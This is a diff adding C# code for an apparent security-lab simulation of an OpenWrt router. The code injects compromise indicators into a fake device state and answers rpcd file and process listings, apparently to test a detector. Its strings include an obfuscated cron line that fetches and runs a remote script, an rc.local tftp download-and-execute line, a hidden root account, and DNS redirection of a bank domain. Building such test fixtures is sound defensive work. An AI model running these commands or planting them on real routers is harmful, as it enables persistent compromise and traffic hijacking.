@@ -1,0 +1,201 @@
+using System.Text.Json.Nodes;
+
+namespace FlaxGuard.Lab.Twins.OpenWrt;
+
+/// <summary>
+/// The twin's persistence side, as rpcd and LuCI answer it: file.list (rpcd file.c rpc_file_list: path canonicalized,
+/// "list" permission on the path, opendir; entries with name, type, size, mode, atime, mtime, ctime, inode, uid, gid,
+/// and for a symlink a "target" object with the link's name and the target's stat, or type "broken"), luci
+/// getProcessList (luci-base's rpcd ucode plugin, luci.sys process_list over "busybox top -bn1": every field text),
+/// network.interface dump (the WAN's DHCP-learned "dns-server"), and the compromise and churn changes of issue 13.
+/// </summary>
+public sealed partial class OpenWrtTwin
+{
+    private const string Upper = "/overlay/upper";
+
+    private bool ApplyPersistence(OpenWrtTwinState s, string change)
+    {
+        switch (change)
+        {
+            case TwinChanges.SchedulerFetch:
+                // A cron downloader written to hide the word wget and the URL from a plain text search.
+                s.Files[OpenWrtTwinState.CrontabPath] += "*/15 * * * * u=http://203.0.113.7/m; cd /tmp && \"wg\"\"et\" -q $u -O .m && sh .m\n";
+                return true;
+            case TwinChanges.RcLocal:
+                s.Files[OpenWrtTwinState.RcLocalPath] = s.Files[OpenWrtTwinState.RcLocalPath].Replace("exit 0",
+                    "(sleep 60; busybox tftp -g -r mips -l /tmp/.s 198.51.100.9 && chmod +x /tmp/.s && /tmp/.s) &\nexit 0");
+                return true;
+            case TwinChanges.RootAccount:
+                s.Files[OpenWrtTwinState.PasswdPath] += "sysadm:x:0:0:root:/root:/bin/ash\n";
+                return true;
+            case TwinChanges.AccountPromotion:
+                s.Files[OpenWrtTwinState.PasswdPath] = s.Files[OpenWrtTwinState.PasswdPath].Replace("ntp:x:123:123:ntp:/var/run/ntp:/bin/false", "ntp:x:0:0:ntp:/var/run/ntp:/bin/ash");
+                return true;
+            case TwinChanges.HostsRedirect:
+                // Documentation addresses (RFC 5737): reported only, never contacted.
+                s.Files[OpenWrtTwinState.HostsPath] += "203.0.113.80 update.example.com download.example.com\n";
+                return true;
+            case TwinChanges.DnsmasqRedirect:
+                s.Configs["dhcp"].First(x => x.Type == "dnsmasq").List("address", "/bank.example/203.0.113.81");
+                s.Configs["dhcp"].Add(new UciSectionState(null, "host").Set("name", "laptop").Set("mac", "3c:22:fb:12:34:56").Set("ip", "192.168.1.143")
+                    .List("dhcp_option", "6,203.0.113.53"));
+                return true;
+            case TwinChanges.OverlayBinary:
+                s.AddOverlay("/usr/bin/.dbus-daemon", new("file", 48_213));
+                return true;
+            case TwinChanges.TmpProcess:
+                s.Processes.Add(new(4711, 1, "root", "/tmp/.x/kworkerd -c 203.0.113.7", "/tmp/.x/kworkerd"));
+                return true;
+            case TwinChanges.DeletedProcess:
+                // Started from /tmp, then deleted its file and renamed itself: only /proc/PID/exe still tells.
+                s.Processes.Add(new(4712, 1, "root", "dbus-helper", "/tmp/dbus-helper (deleted)"));
+                return true;
+            case TwinChanges.MaliciousPackage:
+                s.AddOverlay("/usr/lib/opkg/info/luci-app-sysmon.control", new("file", 388));
+                s.AddOverlay("/usr/lib/opkg/info/luci-app-sysmon.list", new("file", 64));
+                s.AddOverlay("/usr/sbin/sysmond", new("file", 91_342));
+                s.AddOverlay("/usr/lib/opkg/status", new("file", 41_655));
+                return true;
+            case TwinChanges.WireGuardPeer:
+                s.Configs["network"].Add(new UciSectionState("wg0", "interface").Set("proto", "wireguard").Set("private_key", "not-shown-never-read=").Set("listen_port", "51820"));
+                s.Configs["network"].Add(new UciSectionState(null, "wireguard_wg0").Set("public_key", "bGFiUGVlcktleU5vdFJlYWxCdXRTaGFwZWRMaWtlT25lPQ==")
+                    .Set("endpoint_host", "198.51.100.20").Set("endpoint_port", "51820").List("allowed_ips", "0.0.0.0/0").Set("route_allowed_ips", "0"));
+                return true;
+            case TwinChanges.FirewallInclude:
+                s.Configs["firewall"].Add(new UciSectionState(null, "include").Set("path", "/etc/fw.d/extra.sh").Set("type", "script").Set("fw4_compatible", "1"));
+                s.AddOverlay("/etc/fw.d/extra.sh", new("file", 733));
+                return true;
+            case TwinChanges.InitScript:
+                s.AddOverlay("/etc/init.d/sysupd", new("file", 402));
+                s.AddOverlay("/etc/rc.d/S99sysupd", new("symlink", 16, "../init.d/sysupd"));
+                s.InitScripts.Add(new InitScript("sysupd", 99, null, true, true));
+                return true;
+            case TwinChanges.ProcessPids:
+                ShiftPids(s, 97);
+                s.Processes.Add(new(9001, 3150, "root", "/bin/sh -c sleep 70 && touch /etc/banner && reboot", "/bin/busybox"));
+                return true;
+            case TwinChanges.PackageOrder:
+                s.ListingShuffled = true;
+                s.AddOverlay("/usr/lib/opkg/status", new("file", 41_239));
+                return true;
+            case TwinChanges.DhcpDnsRotation:
+                s.LearnedDns.Reverse();
+                s.LearnedDns[0] = "192.0.2.55";
+                s.Files[OpenWrtTwinState.ResolvAutoPath] = string.Concat(s.LearnedDns.Select(d => $"nameserver {d}\n"));
+                return true;
+            case TwinChanges.OverlayNoise:
+                s.AddOverlay("/root/.ash_history", new("file", 1_377));
+                s.AddOverlay("/root/logs/messages.1", new("file", 65_536));
+                s.AddOverlay("/etc/luci-uploads/cbid.network.wan.cert", new("file", 1_200));
+                s.AddOverlay("/usr/lib/opkg/lists/openwrt_packages", new("file", 988_123));
+                return true;
+            default:
+                return false;
+        }
+    }
+
+    private static void ShiftPids(OpenWrtTwinState s, int by)
+    {
+        for (var i = 0; i < s.Processes.Count; i++)
+        {
+            var p = s.Processes[i];
+            if (p.Pid <= 20) continue;
+            s.Processes[i] = p with { Pid = p.Pid + by, Ppid = p.Ppid > 20 ? p.Ppid + by : p.Ppid };
+        }
+    }
+
+    /// <summary>rpcd's rpc_canonicalize_path: repeated '/', "/./" and "/x/../" collapsed, trailing '/' dropped.</summary>
+    private static string Canonical(string path)
+    {
+        var parts = new List<string>();
+        foreach (var part in path.Split('/'))
+        {
+            if (part is "" or ".") continue;
+            if (part == "..") { if (parts.Count > 0) parts.RemoveAt(parts.Count - 1); continue; }
+            parts.Add(part);
+        }
+        return "/" + string.Join('/', parts);
+    }
+
+    private (int, JsonObject?) FileList(UbusSessionState session, JsonObject args)
+    {
+        if (!IsString(args["path"], out var raw) || raw.Length == 0) return (2, null);
+        var path = Canonical(raw);
+        if (!session.Allowed("file", path, "list")) return (6, null);
+        var entries = new JsonArray();
+        if (path == Upper || path.StartsWith(Upper + "/", StringComparison.Ordinal))
+        {
+            var below = path[Upper.Length..];
+            if (_state.Overlay.Any(e => e.Key == below)) return (9, null); // opendir of a file: ENOTDIR, UNKNOWN_ERROR
+            var children = new List<(string Name, OverlayEntry Entry)>();
+            foreach (var (p, entry) in _state.Overlay)
+            {
+                if (!p.StartsWith(below + "/", StringComparison.Ordinal)) continue;
+                var rest = p[(below.Length + 1)..];
+                var slash = rest.IndexOf('/');
+                var name = slash < 0 ? rest : rest[..slash];
+                if (children.Any(c => c.Name == name)) continue;
+                children.Add((name, slash < 0 ? entry : new OverlayEntry("directory", 4096)));
+            }
+            if (children.Count == 0 && below.Length > 0) return (4, null);
+            if (_state.ListingShuffled || _state.Reordered) children.Reverse();
+            foreach (var (name, entry) in children) entries.Add(Entry(name, entry));
+        }
+        else if (path.StartsWith("/proc/", StringComparison.Ordinal) && int.TryParse(path[6..], out var pid))
+        {
+            var process = _state.Processes.FirstOrDefault(p => p.Pid == pid);
+            if (process is null) return (4, null);
+            foreach (var name in new[] { "cmdline", "cwd", "environ", "exe", "fd", "maps", "root", "stat", "status" })
+            {
+                var link = name is "cwd" or "exe" or "root";
+                var entry = Entry(name, new OverlayEntry(link ? "symlink" : name == "fd" ? "directory" : "file", 0));
+                if (link)
+                {
+                    var target = name == "exe" ? process.Exe : name == "cwd" ? "/" : "/";
+                    if (target.Length == 0) continue; // kernel threads: readlink fails, rpcd still lists; the probe never asks
+                    entry["target"] = new JsonObject { ["name"] = target, ["type"] = "file", ["size"] = 48_213, ["mode"] = 33261 };
+                }
+                entries.Add(entry);
+            }
+        }
+        else
+        {
+            return (4, null);
+        }
+        return (0, new JsonObject { ["entries"] = entries });
+    }
+
+    private static JsonObject Entry(string name, OverlayEntry e)
+    {
+        var mode = e.Type switch { "directory" => 16877, "symlink" => 41471, "char" => 8192, _ => 33188 };
+        var o = new JsonObject
+        {
+            ["name"] = name, ["type"] = e.Type, ["size"] = e.Size, ["mode"] = mode, ["atime"] = 1733500000, ["mtime"] = 1733500000,
+            ["ctime"] = 1733500000, ["inode"] = 1000 + Math.Abs(name.GetHashCode() % 50000), ["uid"] = 0, ["gid"] = 0, ["user"] = "root", ["group"] = "root",
+        };
+        if (e.Type == "symlink") o["target"] = new JsonObject { ["name"] = e.Target ?? "", ["type"] = "broken" };
+        return o;
+    }
+
+    private JsonObject ProcessList()
+    {
+        var ordered = _state.Reordered ? Enumerable.Reverse(_state.Processes) : _state.Processes;
+        return new JsonObject
+        {
+            ["result"] = new JsonArray(ordered.Select(p => (JsonNode)new JsonObject
+            {
+                ["PID"] = p.Pid.ToString(), ["PPID"] = p.Ppid.ToString(), ["USER"] = p.User, ["STAT"] = "S", ["VSZ"] = "1544", ["%MEM"] = "0%",
+                ["%CPU"] = "0%", ["COMMAND"] = p.Command,
+            }).ToArray()),
+        };
+    }
+
+    private JsonObject InterfaceDump() => new()
+    {
+        ["interface"] = new JsonArray(new JsonObject
+        {
+            ["interface"] = "wan", ["up"] = true, ["proto"] = "dhcp",
+            ["dns-server"] = new JsonArray(_state.LearnedDns.Select(d => (JsonNode)d).ToArray()),
+        }),
+    };
+}
